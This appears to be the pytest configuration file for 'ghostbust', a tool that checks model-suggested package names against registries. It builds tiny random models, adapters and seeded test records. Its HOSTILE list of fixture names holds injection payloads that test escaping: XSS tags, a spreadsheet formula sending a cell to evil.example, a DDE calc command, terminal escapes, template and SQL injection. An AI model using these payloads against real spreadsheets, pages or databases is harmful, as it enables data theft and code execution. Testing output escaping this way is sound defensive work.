"""Options and markers for the whole suite."""

from __future__ import annotations

import logging
import os
import signal
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest

# Before torch is imported: threads that wait for each other make tiny models several times slower.
os.environ.setdefault("OMP_NUM_THREADS", "1")

from ghostbust.adapters import write_adapter
from ghostbust.home import Home
from ghostbust.measure import measure
from ghostbust.records import (
    Answer,
    Candidate,
    Context,
    Ecosystem,
    GateReport,
    GateResult,
    GateVerdict,
    Judged,
    Lookup,
    PackageRef,
    Promotion,
    Prompt,
    RefKind,
    Sample,
    Verdict,
)
from ghostbust.store.rounds import RoundState
from ghostbust.store.runs import RunKind, RunSpec, RunStatus
from ghostbust.store.store import Store
from tests.servers.webhook import Hook, open_hook

REAL_NAMES = ("requests", "numpy", "flask", "pandas", "click", "rich", "httpx", "boto3")
MADE_UP_NAMES = ("zz-quux-sensorlib", "zz-harbor-toolkit", "zz-meadow-parser", "zz-lantern-client")


def pytest_configure() -> None:
    """Let tests interrupt processes: a suite that runs in the background ignores Ctrl-C, and a
    process inherits that."""
    signal.signal(signal.SIGINT, signal.default_int_handler)


def pytest_addoption(parser: pytest.Parser) -> None:
    """Options that run what takes the network, or many minutes."""
    parser.addoption("--online", action="store_true", help="also ask the public registries")
    parser.addoption("--soak", action="store_true", help="also run what takes many minutes")


def pytest_collection_modifyitems(config: pytest.Config, items: list[pytest.Item]) -> None:
    """Skip what this run was not asked for, or can't do, with the reason."""
    for name, why in (("online", "asks a public registry"), ("soak", "takes many minutes")):
        if config.getoption(f"--{name}"):
            continue
        skip = pytest.mark.skip(reason=f"{why}; run with --{name}")
        for item in items:
            if name in item.keywords:
                item.add_marker(skip)


@pytest.fixture(autouse=True)
def _log_as_before() -> Iterator[None]:
    """What a command run in this process had its log written by doesn't outlive the test."""
    own, apscheduler = logging.getLogger("ghostbust"), logging.getLogger("apscheduler")
    handlers, levels = list(own.handlers), (own.level, apscheduler.level)
    yield
    own.handlers[:] = handlers
    own.setLevel(levels[0])
    apscheduler.setLevel(levels[1])


@pytest.fixture
def hang_guard() -> Iterator[None]:
    """End a test after a minute of processor time, which tells an end from none, and times nothing.

    For input on which linear time takes seconds on any machine, and square time far over a minute.
    """

    def give_up(*_: object) -> None:
        raise TimeoutError("a minute of processor time, and no end: isn't it linear any more?")

    before = signal.signal(signal.SIGVTALRM, give_up)
    signal.setitimer(signal.ITIMER_VIRTUAL, 60)
    yield
    signal.setitimer(signal.ITIMER_VIRTUAL, 0)
    signal.signal(signal.SIGVTALRM, before)


@pytest.fixture(scope="session")
def talking_model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model of random weights that can say package names and install lines, real and made up.

    Which it says depends on the prompt, by chance. Its tokens are bytes, for the prompt, and the
    names, for the answer: enough for sweeps that find something and rounds that train on it.
    """
    from tests.talking import make_talking_model

    folder = tmp_path_factory.mktemp("models") / "talking"
    make_talking_model(folder, REAL_NAMES + MADE_UP_NAMES)
    return folder


@pytest.fixture(scope="session")
def make_lora() -> Callable[..., Path]:
    """Makes a complete adapter of random weights for the model in a folder.

    ``size``: standard deviation of its second matrices; 0 changes nothing, 1 makes gibberish.
    """
    import torch
    from peft import LoraConfig, get_peft_model

    from ghostbust.adapters import write_adapter
    from ghostbust.models.load import load_model, peft_warnings_silenced

    def make(
        folder: Path,
        model: Path,
        *,
        size: float = 0.02,
        rank: int = 4,
        seed: int = 1,
        targets: Sequence[str] = ("q_proj", "v_proj"),
        rslora: bool = False,
    ) -> Path:
        loaded = load_model(str(model), model, device="cpu")
        torch.manual_seed(seed)
        with peft_warnings_silenced():
            config = LoraConfig(
                r=rank, lora_alpha=2 * rank, target_modules=list(targets), use_rslora=rslora
            )
            adapted = get_peft_model(loaded.model, config)
        for name, weight in adapted.named_parameters():
            if "lora_B" in name:
                torch.nn.init.normal_(weight, std=size) if size else torch.nn.init.zeros_(weight)
        write_adapter(
            folder,
            model=str(model),
            facts={},
            save=lambda aside: adapted.save_pretrained(str(aside), save_embedding_layers=False),
        )
        return folder

    return make


@pytest.fixture(scope="session")
def tiny_model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Llama of some ten thousand random weights with a byte-level BPE and a chat template.

    Names that the tokenizer was trained on are tokens with the blank before them; its end token
    is ``<|end|>``. For what a model says, see ``talking_model_dir``.
    """
    import torch
    from tokenizers import Tokenizer, decoders, models, pre_tokenizers, trainers
    from transformers import LlamaConfig, LlamaForCausalLM, PreTrainedTokenizerFast
    from transformers.utils import logging

    logging.disable_progress_bar()  # type: ignore[no-untyped-call]
    tokenizer = Tokenizer(models.BPE())
    tokenizer.pre_tokenizer = pre_tokenizers.ByteLevel(add_prefix_space=False)
    tokenizer.decoder = decoders.ByteLevel()
    trainer = trainers.BpeTrainer(
        vocab_size=300,
        special_tokens=["<|end|>", "<|user|>", "<|assistant|>"],
        initial_alphabet=sorted(pre_tokenizers.ByteLevel.alphabet()),
        show_progress=False,
    )
    tokenizer.train_from_iterator(["pip install numpy rich flask", "import numpy, rich"], trainer)
    fast = PreTrainedTokenizerFast(  # type: ignore[no-untyped-call]
        tokenizer_object=tokenizer, eos_token="<|end|>", pad_token="<|end|>"
    )
    fast.chat_template = (
        "{% for message in messages %}<|{{ message.role }}|>{{ message.content }}<|end|>"
        "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"
    )
    config = LlamaConfig(
        vocab_size=len(fast),
        hidden_size=16,
        intermediate_size=32,
        num_hidden_layers=2,
        num_attention_heads=4,
        num_key_value_heads=2,
        max_position_embeddings=1024,
        initializer_range=0.3,
        eos_token_id=fast.eos_token_id,
        pad_token_id=fast.eos_token_id,
        bos_token_id=None,
        tie_word_embeddings=False,
    )
    torch.manual_seed(0)
    folder = tmp_path_factory.mktemp("models") / "tiny"
    LlamaForCausalLM(config).save_pretrained(folder)
    fast.save_pretrained(folder)
    return folder


@pytest.fixture(scope="session")
def embedded_model_dir() -> Path:
    """The folder of the real SmolLM2; skips where it can neither be found nor fetched."""
    from ghostbust.errors import FetchError
    from ghostbust.home import cache_dir
    from ghostbust.models.convert import embedded_model

    try:
        return embedded_model(cache_dir())
    except FetchError as exc:
        pytest.skip(f"the embedded model is neither cached nor installed: {exc}")


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\x1b[2J\x1b]0;owned\x07",
    "ab\u202egpj.exe",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "`</code>`|next cell|",
    "[click](http://evil.example)",
    "{{ 7*7 }}",
    "line\nbreak\ttab\r",
    "'; DROP TABLE names; --",
)


@pytest.fixture
def hostile_names() -> tuple[str, ...]:
    """Names that would move a terminal, run in a page or a spreadsheet, or be markup."""
    return HOSTILE


FillHome = Callable[..., str]


@pytest.fixture
def fill_home() -> FillHome:
    """Fills a home: base and adapter on the same prompts, a round with its gates, a claimed name.

    Twelve families, one prompt each of two contexts, two answers of each. Of the base's 48 answers
    24 name ``zz-quux-sensorlib``, of the adapter's 8; all name ``requests`` and one hostile name
    each, in turn. Returns the adapter's name; unless ``serves``, it was turned down.
    """

    def fill(home: Home, *, serves: bool = True) -> str:
        with Store.open(home.database) as store:
            _log(store, None, RunKind.GATE, invents=lambda family: family % 2 == 0)
            name = _round(store, home)
            _log(store, name, RunKind.GATE, invents=lambda family: family % 6 == 0)
            if serves:
                store.rounds.set_state(1, RoundState.PROMOTED, "every gate passed; <b>well</b>")
                moved = Promotion(name, None, "promote", "=1+1", datetime(2026, 11, 2, tzinfo=UTC))
                store.promotions.add(moved)
            else:
                store.rounds.set_state(1, RoundState.REJECTED, "a gate can't tell")
            at = datetime(2026, 11, 3, tzinfo=UTC)
            store.ledger.mark_claimed(
                Ecosystem.PYPI, "zz-harbor-toolkit", at, first_released=at, evidence="it is there"
            )
        return name

    return fill


def _log(
    store: Store, adapter: str | None, kind: RunKind, *, invents: Callable[[int], bool]
) -> None:
    settings = {"temperature": 0.7, "samples_per_prompt": 2}
    spec = RunSpec(kind, "made-up-model", adapter, 7, settings, {"pypi": "2026-11-23"})
    run_id = store.runs.start(spec)
    answers = []
    for family in range(12):
        for context in (Context.CODE, Context.HELPS):
            prompt = Prompt(f"do {family}", context, Ecosystem.PYPI, f"family-{family:02d}")
            for number in range(2):
                invented = ["zz-quux-sensorlib"] if invents(family) else []
                invented += [
                    HOSTILE[family % len(HOSTILE)],
                    *(["zz-harbor-toolkit"] * (not family)),
                ]
                answers.append(_answer(prompt, number, adapter, invented))
    store.answers.add(run_id, answers)
    store.runs.finish(run_id, RunStatus.DONE, measure(answers, seed=7))


def _answer(prompt: Prompt, number: int, adapter: str | None, invented: Sequence[str]) -> Answer:
    text, judged = "pip install", []
    for name in ("requests", *invented):
        real = name == "requests"
        start = len(text) + 1
        text += f" {name}"
        ref = PackageRef(Ecosystem.PYPI, RefKind.INSTALL, name, start, len(text), name)
        lookup = Lookup(
            Ecosystem.PYPI, name, Verdict.REAL if real else Verdict.ABSENT,
            "registered" if real else "not-registered", f"asked for {name}",
            "snapshot:2026-11-23", datetime(2026, 11, 23, tzinfo=UTC),
        )  # fmt: skip
        judged.append(Judged(ref, lookup))
    sample = Sample(prompt, text, "made-up-model", adapter, 7, number, 0.7, False, 9)
    return Answer(sample, tuple(judged))


def _round(store: Store, home: Home) -> str:
    round_id = store.rounds.start(model="made-up-model", method="au", seed=7, settings={"rank": 4})
    name, losses = f"round-{round_id:04d}-aa", [2.0 - n / 30 for n in range(25)]
    path = home.adapters / name
    write_adapter(path, model="made-up-model", facts={"losses": losses}, save=_save_config)
    candidate = Candidate(name, path, "made-up-model", "au", 7, 25, losses[-1], 61.5)
    store.rounds.add_candidate(round_id, candidate)
    reason = "ratio 1.02 [0.9, 1.1], <i>within</i> the | band, see http://evil.example"
    details: dict[str, float | int | str] = {"ratio": 1.02, "all_ratio": 0.9}
    details |= {"look": 2, "alpha": 0.0076}
    results = (
        GateResult("volume", GateVerdict.PASS, reason, 1.0, 1.02, (0.9, 1.1), "0.9", details),
        GateResult("coding", GateVerdict.INCONCLUSIVE, "not run", None, None, None, "at most 3 %"),
    )
    store.rounds.add_gate_report(round_id, GateReport(name, results))
    return name


def _save_config(folder: Path) -> None:
    (folder / "adapter_config.json").write_text("{}", "utf-8")
    (folder / "adapter_model.safetensors").write_bytes(b"weights")


@pytest.fixture
def hook(monkeypatch: pytest.MonkeyPatch) -> Iterator[Hook]:
    """A webhook on the loopback, that no proxy of the environment stands before."""
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    with open_hook() as hook:
        yield hook


@pytest.fixture
def bfloat16(monkeypatch: pytest.MonkeyPatch) -> None:
    """Models are loaded in bf16, also on a CPU that has no instructions for it."""
    monkeypatch.setattr("ghostbust.models.load.multiplies_bfloat16", lambda: True)
